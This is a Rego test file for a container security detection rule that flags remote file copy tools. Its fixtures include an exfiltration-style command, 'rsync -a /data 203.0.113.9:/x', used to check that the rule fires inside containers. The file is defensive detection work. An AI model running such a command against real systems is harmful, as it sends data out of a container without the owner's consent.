package bpfopa.rules.launch_remote_file_copy_tools_in_container_test

import data.bpfopa.lib.testing
import data.bpfopa.rules.launch_remote_file_copy_tools_in_container

test_alerts_rsync_in_container if {
	doc := testing.exec(object.union(testing.in_container, {"process": {"name": "rsync", "exe": "/usr/bin/rsync", "args": ["-a", "/data", "203.0.113.9:/x"], "argv0": "rsync", "cmdline": "rsync -a /data 203.0.113.9:/x"}}))
	found := launch_remote_file_copy_tools_in_container.alerts with input as doc
	count(found) == 1
	some alert in found
	alert.rule == "Launch Remote File Copy Tools in Container"
	alert.id == "launch_remote_file_copy_tools_in_container"
}

test_no_alert_rsync_on_host if {
	doc := testing.exec({"process": {"name": "rsync", "exe": "/usr/bin/rsync", "args": ["-a", "/data", "203.0.113.9:/x"], "argv0": "rsync", "cmdline": "rsync -a /data 203.0.113.9:/x"}})
	count(launch_remote_file_copy_tools_in_container.alerts) == 0 with input as doc
}

test_no_alert_cp_in_container if {
	doc := testing.exec(object.union(testing.in_container, {"process": {"name": "cp", "exe": "/usr/bin/cp", "args": [], "argv0": "cp", "cmdline": "cp"}}))
	count(launch_remote_file_copy_tools_in_container.alerts) == 0 with input as doc
}
